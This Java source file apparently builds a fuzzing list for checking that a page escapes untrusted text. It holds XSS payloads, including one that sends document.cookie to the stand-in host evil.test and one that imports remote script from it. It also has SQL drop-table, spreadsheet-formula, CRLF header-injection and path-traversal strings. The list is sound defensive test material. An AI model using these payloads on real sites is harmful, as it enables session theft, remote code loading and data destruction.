package dev.tandem.page;

import java.util.List;
import java.util.stream.Stream;

/** A hundred and more texts that run, break out or mislead wherever a page takes text for anything else. */
final class Payloads {
    private static final List<String> RUNS = List.of(
            "alert(1)",
            "window.pwned=1",
            "fetch('//evil.test/'+document.cookie)",
            "import('//evil.test/x.js')",
            "eval('alert(1)')",
            "top.location='//evil.test'");
    private static final List<String> CARRIERS = List.of(
            "<script>%s</script>",
            "</script><script>%s</script>",
            "<img src=x onerror=\"%s\">",
            "<svg onload=\"%s\">",
            "<svg><script>%s</script></svg>",
            "\"><img src=x onerror='%s'>",
            "' onmouseover='%s' x='",
            "<a href=\"javascript:%s\">x</a>",
            "<iframe srcdoc=\"<script>%s</script>\"></iframe>",
            "<details open ontoggle=\"%s\">",
            "<body onload=\"%s\">",
            "<math><mi xlink:href=\"javascript:%s\">x</mi></math>",
            "{{constructor.constructor('%s')()}}",
            "${%s}",
            "<style>@import '//evil.test/%s'</style>",
            "<object data=\"javascript:%s\"></object>");
    private static final List<String> OTHERS = List.of(
            "<base href=//evil.test/>",
            "<meta http-equiv=refresh content=0;url=//evil.test>",
            "<link rel=stylesheet href=//evil.test/x.css>",
            "<form action=//evil.test><input name=q></form>",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
            "]]><script>alert(1)</script>",
            "__proto__",
            "constructor",
            "\u202Egnp.exe",
            "\u0000\u0001\u001b[31m",
            "\u2028\u2029",
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd",
            "'; drop table tandem_run; --",
            "%00%0d%0aSet-Cookie: a=b",
            "../../../../etc/passwd",
            "\uD800",
            "a".repeat(3_000),
            "﷽".repeat(40),
            "{a|rich} {b|text}");

    static final List<String> ALL = Stream.concat(
                    CARRIERS.stream().flatMap(it -> RUNS.stream().map(run -> it.replace("%s", run))), OTHERS.stream())
            .toList();

    private Payloads() {}
}
